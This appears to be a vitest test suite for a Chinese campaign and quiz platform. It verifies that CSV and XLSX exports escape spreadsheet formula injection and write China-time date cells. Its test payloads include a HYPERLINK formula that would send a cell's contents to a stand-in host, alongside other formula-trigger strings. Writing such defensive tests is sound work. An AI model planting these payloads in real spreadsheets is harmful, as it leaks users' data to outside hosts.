import { describe, expect, it } from 'vitest';
import { env } from 'cloudflare:workers';
import { read, SSF } from '@e965/xlsx';
import { freshPhone, PHONES, signedIn, type Client } from '../helpers';

const EVIL = ['=HYPERLINK("http://e.x/"&A1,"点我")', '+1+1', '@SUM(A1:A9)', '-2+3'];

async function volunteer(org: Client) {
  const r = await org.post('/api/v1/campaigns', {
    kind: 'volunteer',
    title: '导出测试',
    orgUnitId: 'root',
    settings: { pairCap: 10 },
    startsAt: new Date(Date.now() - 864e5).toISOString(),
    endsAt: new Date(Date.now() + 864e5).toISOString(),
  });
  const id = r.body.campaign.id as string;
  await org.post(`/api/v1/campaigns/${id}/publish`);
  return id;
}

/** The wall clock in China (UTC+8) of an instant, as Excel shows it. */
const chinaWall = (iso: string) => new Date(Date.parse(iso) + 8 * 3600e3).toISOString().slice(0, 19).replace('T', ' ');

describe('table downloads', () => {
  it('escapes formula-like names in CSV, keeps them plain strings in xlsx, and writes times as China-time date cells', async () => {
    const org = await signedIn(PHONES.rootOrganizer);
    const id = await volunteer(org);
    for (const name of EVIL) {
      const r = await org.post(`/api/v1/campaigns/${id}/pairs`, { memberId: 'user-member-fgw', name, phone: freshPhone(), consent: true });
      expect(r.status, name).toBe(201);
    }
    const csv = await org.get(`/api/v1/campaigns/${id}/pairs/export?format=csv`);
    expect(csv.status).toBe(200);
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://e.x/""&A1,""点我"")"`);
    for (const name of EVIL.slice(1)) expect(csv.text).toContain(`"'${name}"`);
    for (const line of csv.text.replace(/^\uFEFF/, '').split('\r\n')) {
      for (const cell of line.slice(1, -1).split('","')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const xlsx = await org.get(`/api/v1/campaigns/${id}/pairs/export?format=xlsx`);
    const wb = read(xlsx.bytes, { type: 'array', cellFormula: true, cellNF: true, cellStyles: true });
    const ws = wb.Sheets[wb.SheetNames[0]!]!;
    const cells = Object.entries(ws).filter(([k]) => !k.startsWith('!')) as [string, { t: string; v: unknown; f?: string; z?: string }][];
    expect(cells.some(([, c]) => c.f)).toBe(false);
    const names = cells.filter(([k]) => k.startsWith('D') && k !== 'D1').map(([, c]) => c);
    expect(names.map((c) => c.v).sort()).toEqual([...EVIL].sort());
    expect(names.every((c) => c.t === 's')).toBe(true);
    // 登记时间 (column H): a number with a date format whose value is the China wall clock
    const rows = await env.DB.prepare('SELECT resident_name, created_at FROM volunteer_pairs WHERE campaign_id = ?')
      .bind(id)
      .all<{ resident_name: string; created_at: string }>();
    for (let r = 2; r <= EVIL.length + 1; r++) {
      const name = ws[`D${r}`].v as string;
      const when = ws[`H${r}`] as { t: string; v: number; z?: string };
      expect(when.t).toBe('n');
      expect(when.z).toMatch(/yyyy-mm-dd hh:mm/);
      const d = SSF.parse_date_code(when.v);
      const shown = `${d.y}-${String(d.m).padStart(2, '0')}-${String(d.d).padStart(2, '0')} ${String(d.H).padStart(2, '0')}:${String(d.M).padStart(2, '0')}:${String(d.S).padStart(2, '0')}`;
      expect(shown).toBe(chinaWall(rows.results.find((x) => x.resident_name === name)!.created_at));
    }
    expect(ws['!cols']?.length).toBeGreaterThan(0);
  });

  it('a question bank exported to CSV is escaped and imports back to the same text', async () => {
    const org = await signedIn(PHONES.rootOrganizer);
    const bank = (await org.post('/api/v1/question-banks', { title: '公式题库', orgUnitId: 'root' })).body.bank.id as string;
    const csv = ['题型,题干,选项A,选项B,选项C,选项D,答案,解析,标签,难度', ...EVIL.map((s, i) => `单选,"${s.replace(/"/g, '""')}",甲${i},乙,,,A,,,易`)].join(
      '\n',
    );
    expect((await org.call('POST', `/api/v1/question-banks/${bank}/import`, csv, { 'content-type': 'text/csv' })).body).toMatchObject({
      imported: 4,
      errors: [],
    });
    const out = await org.get(`/api/v1/question-banks/${bank}/export?format=csv`);
    for (const s of EVIL.slice(1)) expect(out.text).toContain(`"'${s}"`);
    const copy = (await org.post('/api/v1/question-banks', { title: '再导入', orgUnitId: 'root' })).body.bank.id as string;
    expect((await org.call('POST', `/api/v1/question-banks/${copy}/import`, out.text, { 'content-type': 'text/csv' })).body).toMatchObject({
      imported: 4,
      errors: [],
    });
    const stems = await env.DB.prepare('SELECT stem FROM questions WHERE bank_id = ?').bind(copy).all<{ stem: string }>();
    expect(stems.results.map((r) => r.stem).sort()).toEqual([...EVIL].sort());
  });

  it('the leaderboard export goes through the same escaping', async () => {
    const org = await signedIn(PHONES.rootOrganizer);
    const r = await org.get('/api/v1/campaigns/camp-quiz/leaderboard/export?format=csv');
    expect(r.status).toBe(200);
    expect([...r.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(r.text.replace(/^\uFEFF/, '').startsWith('"名次"')).toBe(true);
  });
});
